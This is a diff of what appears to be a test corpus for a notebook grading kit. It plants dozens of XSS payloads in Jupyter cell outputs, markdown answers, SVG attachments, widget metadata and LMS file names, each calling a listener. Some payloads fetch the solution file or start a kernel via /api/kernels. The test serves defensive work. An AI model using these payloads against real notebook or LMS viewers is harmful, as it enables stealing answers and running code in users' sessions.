@@ -55,6 +55,7 @@ def ran(value: str) -> list[str]:
 
 # --- outputs of the student's code (compile cell of XSS_OUTPUTS) -------------------------
 
+
 def html_outputs(listener: str) -> dict[str, str]:
     """name -> text/html the student's code displays."""
     m = lambda name: mark(name, listener)  # noqa: E731
@@ -65,27 +66,30 @@ def html_outputs(listener: str) -> dict[str, str]:
         "out_jslink": f'<a href="javascript:{m("out_jslink")}">{LINK_PREFIX}out_jslink</a>',
         "out_svg_inline": f'<svg><script>{m("out_svg_inline")}</script></svg><svg onload="{m("out_svg_inline")}"></svg>',
         "out_srcdoc": f'<iframe srcdoc="<script>{m("out_srcdoc")}</script>"></iframe>',
-        "out_iframe_data": f'<iframe src="data:text/html,<script>fetch(\'{listener}/hit/out_iframe_data\')</script>"></iframe>',
+        "out_iframe_data": f"<iframe src=\"data:text/html,<script>fetch('{listener}/hit/out_iframe_data')</script>\"></iframe>",
         "out_details": f'<details open ontoggle="{m("out_details")}"><summary>s</summary></details>',
         "out_alert": "<img src=x onerror=\"alert('out_alert')\">",
         "out_base": f'<base href="{listener}/hit/out_base/">',
-        "out_css": (f"<style>@import url('{listener}/hit/out_css_import');</style>"
-                    f"<div style=\"background-image:url('{listener}/hit/out_css_url')\">styled</div>"),
+        "out_css": (
+            f"<style>@import url('{listener}/hit/out_css_import');</style>"
+            f"<div style=\"background-image:url('{listener}/hit/out_css_url')\">styled</div>"
+        ),
         "out_fetch_solution": (
-            f"<img src=x onerror=\"fetch('{SOLUTION_PATH}').then(r=>r.text())"
-            f".then(t=>{{{m('out_fetch_solution')}}})\">"
+            f"<img src=x onerror=\"fetch('{SOLUTION_PATH}').then(r=>r.text()).then(t=>{{{m('out_fetch_solution')}}})\">"
         ),
         "out_start_kernel": (
             f"<img src=x onerror=\"fetch('/api/kernels',{{method:'POST',headers:{{'X-XSRFToken':{xsrf}}}}})"
-            f".then(r=>{{{m('out_start_kernel')}}})\">"
+            f'.then(r=>{{{m("out_start_kernel")}}})">'
         ),
     }
 
 
 def svg_output(listener: str) -> str:
     name = "out_svg_output"
-    return (f'<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="{mark(name, listener)}">'
-            f"<script>{mark(name, listener)}</script><rect width=\"20\" height=\"20\"/></svg>")
+    return (
+        f'<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" onload="{mark(name, listener)}">'
+        f'<script>{mark(name, listener)}</script><rect width="20" height="20"/></svg>'
+    )
 
 
 WIDGET_VIEW = {"model_id": "pwn-widget", "version_major": 2, "version_minor": 0}
@@ -93,22 +97,34 @@ WIDGET_VIEW = {"model_id": "pwn-widget", "version_major": 2, "version_minor": 0}
 
 def widget_state(listener: str) -> dict:
     """Notebook metadata: an HTML widget whose value is script (nbconvert would load widget JS for it)."""
-    model = {"model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls",
-             "model_module_version": "2.0.0",
-             "state": {"value": f'<img src=x onerror="{mark("widget_state", listener)}">'}}
-    return {"application/vnd.jupyter.widget-state+json": {"version_major": 2, "version_minor": 0,
-                                                         "state": {"pwn-widget": model}}}
+    model = {
+        "model_name": "HTMLModel",
+        "model_module": "@jupyter-widgets/controls",
+        "model_module_version": "2.0.0",
+        "state": {"value": f'<img src=x onerror="{mark("widget_state", listener)}">'},
+    }
+    return {
+        "application/vnd.jupyter.widget-state+json": {
+            "version_major": 2,
+            "version_minor": 0,
+            "state": {"pwn-widget": model},
+        }
+    }
 
 
 def output_code(listener: str) -> str:
     """Code appended to the compile cell: one display per payload, then a print of HTML."""
-    lines = ["", "# --- hostile outputs (tests/xss_corpus.py) ---",
-             "from IPython.display import HTML, Javascript, Markdown, display"]
+    lines = [
+        "",
+        "# --- hostile outputs (tests/xss_corpus.py) ---",
+        "from IPython.display import HTML, Javascript, Markdown, display",
+    ]
     lines += [f"display(HTML({html!r}))" for html in html_outputs(listener).values()]
     lines.append(f"display({{'image/svg+xml': {svg_output(listener)!r}, 'text/plain': 'an SVG'}}, raw=True)")
     lines.append(f"display(Javascript({mark('out_appjs', listener)!r}))")
-    lines.append(f"display({{'application/vnd.jupyter.widget-view+json': {WIDGET_VIEW!r}, "
-                 "'text/plain': 'a widget'}, raw=True)")
+    lines.append(
+        f"display({{'application/vnd.jupyter.widget-view+json': {WIDGET_VIEW!r}, 'text/plain': 'a widget'}}, raw=True)"
+    )
     markdown = f'<img src=x onerror="{mark("out_markdown", listener)}">'
     lines.append(f"display(Markdown({markdown!r}))")
     printed = f"<script>{mark('out_stdout', listener)}</script>"
@@ -126,18 +142,34 @@ def kernel_outputs(listener: str) -> list:
     """The outputs ``output_code`` and ``error_cell`` make when run, built directly (no kernel)."""
     from nbformat.v4 import new_output
 
-    outputs = [new_output("display_data", data={"text/html": html, "text/plain": "<IPython.core.display.HTML object>"})
-               for html in html_outputs(listener).values()]
+    outputs = [
+        new_output("display_data", data={"text/html": html, "text/plain": "<IPython.core.display.HTML object>"})
+        for html in html_outputs(listener).values()
+    ]
     outputs += [
         new_output("display_data", data={"image/svg+xml": svg_output(listener), "text/plain": "an SVG"}),
-        new_output("display_data", data={"application/javascript": mark("out_appjs", listener),
-                                         "text/plain": "<IPython.core.display.Javascript object>"}),
-        new_output("display_data", data={"application/vnd.jupyter.widget-view+json": WIDGET_VIEW,
-                                         "text/plain": "a widget"}),
-        new_output("display_data", data={"text/markdown": f'<img src=x onerror="{mark("out_markdown", listener)}">',
-                                         "text/plain": "<IPython.core.display.Markdown object>"}),
-        new_output("display_data", data={"text/html": f'<b>x</b>', "text/plain": "isolated"},
-                   metadata={"text/html": {"isolated": True}}),
+        new_output(
+            "display_data",
+            data={
+                "application/javascript": mark("out_appjs", listener),
+                "text/plain": "<IPython.core.display.Javascript object>",
+            },
+        ),
+        new_output(
+            "display_data", data={"application/vnd.jupyter.widget-view+json": WIDGET_VIEW, "text/plain": "a widget"}
+        ),
+        new_output(
+            "display_data",
+            data={
+                "text/markdown": f'<img src=x onerror="{mark("out_markdown", listener)}">',
+                "text/plain": "<IPython.core.display.Markdown object>",
+            },
+        ),
+        new_output(
+            "display_data",
+            data={"text/html": "<b>x</b>", "text/plain": "isolated"},
+            metadata={"text/html": {"isolated": True}},
+        ),
         new_output("stream", name="stdout", text=f"<script>{mark('out_stdout', listener)}</script>\n"),
     ]
     name = f'<img src=x onerror="{mark("out_traceback", listener)}">'
@@ -147,27 +179,32 @@ def kernel_outputs(listener: str) -> list:
 
 # --- the student's written answer ------------------------------------------------------------
 
+
 def markdown_answer(listener: str) -> str:
     m = lambda name: mark(name, listener)  # noqa: E731
-    return "\n\n".join([
-        "My analysis: the model *learns* quickly.",
-        f"<script>{m('md_script')}</script>",
-        f'<img src=x onerror="{m("md_onerror")}">',
-        f"[{LINK_PREFIX}md_jslink](javascript:{m('md_jslink')})",
-        f"[{LINK_PREFIX}md_entity_link](&#106;avascript:{m('md_entity_link')})",
-        f"<svg><script>{m('md_svg')}</script></svg>",
-        f'<iframe srcdoc="<script>{m("md_srcdoc")}</script>"></iframe>',
-        f'<details open ontoggle="{m("md_details")}"><summary>more</summary></details>',
-        f'```mermaid\n<img src=x onerror="{m("md_mermaid")}">\n```',
-        f'<meta http-equiv="refresh" content="2;url={listener}/hit/md_meta_refresh">',
-        "<img src=x onerror=\"alert('md_alert')\">",
-        f"![attached](attachment:evil.svg) and inline <b onmouseover=\"{m('md_inline')}\">bold</b>",
-    ])
+    return "\n\n".join(
+        [
+            "My analysis: the model *learns* quickly.",
+            f"<script>{m('md_script')}</script>",
+            f'<img src=x onerror="{m("md_onerror")}">',
+            f"[{LINK_PREFIX}md_jslink](javascript:{m('md_jslink')})",
+            f"[{LINK_PREFIX}md_entity_link](&#106;avascript:{m('md_entity_link')})",
+            f"<svg><script>{m('md_svg')}</script></svg>",
+            f'<iframe srcdoc="<script>{m("md_srcdoc")}</script>"></iframe>',
+            f'<details open ontoggle="{m("md_details")}"><summary>more</summary></details>',
+            f'```mermaid\n<img src=x onerror="{m("md_mermaid")}">\n```',
+            f'<meta http-equiv="refresh" content="2;url={listener}/hit/md_meta_refresh">',
+            "<img src=x onerror=\"alert('md_alert')\">",
+            f'![attached](attachment:evil.svg) and inline <b onmouseover="{m("md_inline")}">bold</b>',
+        ]
+    )
 
 
 def svg_attachment(listener: str) -> dict:
-    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{mark("md_attachment", listener)}">'
-           f"<script>{mark('md_attachment', listener)}</script></svg>")
+    svg = (
+        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{mark("md_attachment", listener)}">'
+        f"<script>{mark('md_attachment', listener)}</script></svg>"
+    )
     return {"evil.svg": {"image/svg+xml": base64.b64encode(svg.encode()).decode()}}
 
 
@@ -179,6 +216,7 @@ ORDINARY_ANSWER = (
 
 
 # --- what the checks quote back (XSS_LABELS) -----------------------------------------------
+
 
 def label_payloads(listener: str) -> dict[str, str]:
     """Short (no listener call): long labels make big figures, and the kit caps a cell's outputs at 200 kB."""
@@ -216,6 +254,7 @@ def compile_cell_with_odd_class(reference: str, listener: str) -> str:
 
 # --- notebooks and the LMS download --------------------------------------------------------
 
+
 def _cell_index(nb, grade_id: str) -> int:
     return next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
 
@@ -223,16 +262,23 @@ def _cell_index(nb, grade_id: str) -> int:
 def outputs_notebook(released, answers: dict, listener: str):
     from kit_testing import fill
 
-    nb = fill(released, {**answers, "compile": answers["compile"] + output_code(listener),
-                         "analysis": markdown_answer(listener)})
+    nb = fill(
+        released,
+        {**answers, "compile": answers["compile"] + output_code(listener), "analysis": markdown_answer(listener)},
+    )
     analysis = nb.cells[_cell_index(nb, "analysis")]
     analysis["attachments"] = svg_attachment(listener)
     # extra cells of the student's own: a failing one, a raw HTML one
     nb.cells.insert(_cell_index(nb, "test_plot") + 1, new_code_cell(error_cell(listener)))
-    nb.cells.append(new_raw_cell(f"<script>{mark('raw_cell', listener)}</script>",
-                                 metadata={"raw_mimetype": "text/html"}))
-    nb.cells.append(new_markdown_cell(f"<img src=x onerror=\"{mark('md_extra_cell', listener)}\">",
-                                      metadata={"jupyter": {"source_hidden": True}, "tags": ['"><script>']}))
+    nb.cells.append(
+        new_raw_cell(f"<script>{mark('raw_cell', listener)}</script>", metadata={"raw_mimetype": "text/html"})
+    )
+    nb.cells.append(
+        new_markdown_cell(
+            f'<img src=x onerror="{mark("md_extra_cell", listener)}">',
+            metadata={"jupyter": {"source_hidden": True}, "tags": ['"><script>']},
+        )
+    )
     nb.metadata["widgets"] = widget_state(listener)
     return nb
 
@@ -240,10 +286,15 @@ def outputs_notebook(released, answers: dict, listener: str):
 def labels_notebook(released, answers: dict, listener: str):
     from kit_testing import fill
 
-    return fill(released, {**answers,
-                           "compile": compile_cell_with_odd_class(answers["compile"], listener),
-                           "plot_history": plot_cell(answers["plot_history"], listener),
-                           "analysis": ORDINARY_ANSWER})
+    return fill(
+        released,
+        {
+            **answers,
+            "compile": compile_cell_with_odd_class(answers["compile"], listener),
+            "plot_history": plot_cell(answers["plot_history"], listener),
+            "analysis": ORDINARY_ANSWER,
+        },
+    )
 
 
 def odd_file_names(listener: str) -> dict[str, list[str]]:
@@ -272,10 +323,32 @@ def canvas_zip(notebooks: dict[str, object], extra_names: dict[str, list[str]], 
 
 def payload_names(listener: str) -> list[str]:
     """Every payload name the corpus plants (for the report and for sanity checks)."""
-    names = [*html_outputs(listener), "out_svg_output", "out_appjs", "widget_state", "out_markdown",
-             "out_stdout", "out_traceback", "md_script", "md_onerror", "md_jslink", "md_entity_link", "md_svg",
-             "md_srcdoc", "md_details", "md_mermaid", "md_meta_refresh", "md_alert", "md_attachment", "md_inline",
-             "raw_cell", "md_extra_cell", *label_payloads(listener), "name_extra", "name_only"]
+    names = [
+        *html_outputs(listener),
+        "out_svg_output",
+        "out_appjs",
+        "widget_state",
+        "out_markdown",
+        "out_stdout",
+        "out_traceback",
+        "md_script",
+        "md_onerror",
+        "md_jslink",
+        "md_entity_link",
+        "md_svg",
+        "md_srcdoc",
+        "md_details",
+        "md_mermaid",
+        "md_meta_refresh",
+        "md_alert",
+        "md_attachment",
+        "md_inline",
+        "raw_cell",
+        "md_extra_cell",
+        *label_payloads(listener),
+        "name_extra",
+        "name_only",
+    ]
     return names
 
 
